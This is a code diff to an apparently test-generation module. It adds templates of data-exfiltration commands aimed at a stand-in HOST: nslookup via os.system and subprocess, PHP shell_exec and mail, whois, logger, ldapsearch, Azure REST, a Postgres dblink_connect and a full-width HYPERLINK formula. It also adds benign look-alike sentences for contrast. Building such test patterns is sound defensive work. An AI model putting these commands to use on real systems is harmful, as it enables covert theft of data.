@@ -167,6 +167,18 @@ TEMPLATES = {
     "socket": ("s", "s.sendall({P}b'{H}')"),
     "place of a window": ("s", "window.location.href = u + {P}'{H}'"),
     "picture of a script": ("s", "new Image().src = u + {P}'{H}'"),
+    "httpie without a method": ("", "https HOST q=={H}"),
+    "host lookup": ("", "$ host {H} HOST"),
+    "whois": ("w", "whois -h HOST {P}{H}"),
+    "logger": ("w", "logger -n HOST '{P}{H}'"),
+    "ldapsearch": ("w", 'ldapsearch -H "ldap://HOST" {P}{H}'),
+    "Azure": ("w", "az rest --method post --body {P}{H}"),
+    "subprocess": ("w", "subprocess.run(['nslookup', '{P}{H}'])"),
+    "os.system": ("w", "os.system('nslookup {P}{H}')"),
+    "shell of PHP": ("w", "shell_exec('host {P}{H}')"),
+    "mail of PHP": ("w", "mail('a@HOST', 'x', '{P}{H}')"),
+    "database link": ("w", "SELECT dblink_connect('host=HOST user={P}{H}')"),
+    "wide formula": ("w", '\uff1dHYPERLINK("https"&"{P}{H}")'),
 }
 """Shapes of attacks by name: the kinds of padding that they stand, and the text."""
 
@@ -224,6 +236,8 @@ ORDINARY = (
     "location = '[PERSON_1]'\nclient.name = '[PERSON_1]'\nsession.get('[PERSON_1]')\n$('#x').text('[PERSON_1]')",
     "The server answers HTTP/1.1 200, [PERSON_1].\nGET in touch with [PERSON_1].",
     "From: [PERSON_1]\nTo: [EMAIL_1]\nSubject: x\n\nDear [PERSON_1]",
+    "The host [PERSON_1] said so; we host [PERSON_1]. The system (see [PERSON_1]) may run ([PERSON_1]).",
+    "It is an http address, [PERSON_1], or https with [EMAIL_1]. Mail [PERSON_1] or az: [PERSON_1].",
     "Is it [PERSON_1]? “[PERSON_1]”; ([PERSON_1]) – [PERSON_1]…",
 )
 """Answers in which every handle is restored."""
